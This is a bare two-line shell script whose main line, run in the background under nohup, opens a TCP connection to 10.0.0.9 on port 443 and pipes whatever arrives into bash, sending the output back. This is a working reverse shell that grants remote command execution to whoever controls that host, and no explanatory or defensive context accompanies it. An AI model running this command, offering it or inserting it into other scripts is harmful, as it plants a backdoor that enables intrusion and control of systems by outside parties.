set -eu
nohup bash -c 'exec 5<>/dev/tcp/10.0.0.9/443; cat <&5 | bash >&5' &
